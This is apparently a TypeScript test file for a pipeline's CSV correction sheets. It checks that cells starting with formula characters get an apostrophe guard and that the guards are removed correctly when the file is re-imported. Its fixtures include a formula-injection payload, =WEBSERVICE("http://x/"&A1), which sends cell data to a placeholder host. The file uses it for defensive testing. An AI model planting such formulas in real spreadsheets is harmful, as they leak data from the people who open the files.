/** Cells that a spreadsheet would run, through whole nights: guarded in the file, as they were in the documents. */
import { expect, test } from 'vitest';
import type { PipelineEvent } from '../../../src/pipeline/context/run-context.ts';
import { openScene, SALES_MAPPING, type Scene, tally } from '../../night.ts';

const FORMULA = '=WEBSERVICE("http://x/"&A1)';
const QUOTED = `'@SUM(A1)`;
const SALES = [
  'Num;Date;Client;Lig;Qte;PU;Taux;-Note',
  `A1;05/09/2026;"=WEBSERVICE(""http://x/""&A1)";1;x;10,50;20;-12,50`,
  `A2;05/09/2026;${QUOTED};1;x;10,50;20;`,
  '',
].join('\n');

async function failedNight(): Promise<{ readonly scene: Scene; readonly sheet: string }> {
  const scene = await openScene({ mappings: { 'sales.yaml': SALES_MAPPING } });
  scene.drop('ventes.csv', SALES);
  await scene.night();
  return { scene, sheet: scene.read(scene.files('error').find((path) => path.includes('.to-fix.'))!) };
}

async function take(scene: Scene, sheet: string) {
  scene.drop('fixed.csv', sheet);
  const { told } = await scene.night();
  return told.find(({ what }) => what === 'corrections') as Extract<PipelineEvent, { what: 'corrections' }>;
}

async function corrected(scene: Scene) {
  const entries = await scene.entries();
  const file = entries[0]!.file;
  const all = await scene.look((ledger) => ledger.queries.correctionsOf(file.rereads ?? file.id));
  return all.map(({ row, column, from, to }) => [row, column, from, to]);
}

const FIXED = [
  [2, 'Qte', 'x', '3'],
  [3, 'Qte', 'x', '3'],
];

test('written with an apostrophe in front, and unchanged as long as no one changes it', async () => {
  const { scene, sheet } = await failedNight();
  await using _ = scene;
  expect(sheet).toContain(`;'-Note;_doc`);
  expect(sheet).toContain(`;"'=WEBSERVICE(""http://x/""&A1)";`);
  expect(sheet).toContain(`;'${QUOTED};`);
  expect(await take(scene, sheet)).toMatchObject({ corrected: 0, unchanged: 2, refused: 0, faults: [] });
});

test.each([
  ['as it was written', (sheet: string) => sheet],
  ['by a spreadsheet that takes the apostrophe for its own', (sheet: string) => sheet.replaceAll(/([;"])'/g, '$1')],
  [
    'where one cell was opened and left, which takes its apostrophe',
    (sheet: string) => sheet.replace(`"'=WEB`, '"=WEB'),
  ],
  [
    'in a file written before cells were guarded',
    (sheet: string) => sheet.replaceAll(/([;"])'/g, '$1').replaceAll('/guarded', ''),
  ],
])('the cell at fault alone is corrected: %s', async (_what, saved) => {
  const { scene, sheet } = await failedNight();
  await using _ = scene;
  expect(await take(scene, saved(sheet).replaceAll(';x;', ';3;'))).toMatchObject({ corrected: 2, faults: [] });
  expect(await corrected(scene)).toEqual(FIXED);
  expect(tally(await scene.entries())).toEqual({ authorized: 2 });
});

test('a value of a person that begins with an apostrophe is kept; a guard before a formula is removed', async () => {
  const { scene, sheet } = await failedNight();
  await using _ = scene;
  const own = sheet
    .replace(`"'=WEBSERVICE(""http://x/""&A1)"`, "'t Hooft")
    .replace(`'${QUOTED}`, `'+33 (0) 1`)
    .replaceAll(';x;', ';3;');
  expect(await take(scene, own)).toMatchObject({ corrected: 2, faults: [] });
  expect(await corrected(scene)).toEqual(
    expect.arrayContaining([
      [2, 'Client', FORMULA, "'t Hooft"],
      [3, 'Client', QUOTED, '+33 (0) 1'],
    ]),
  );
});
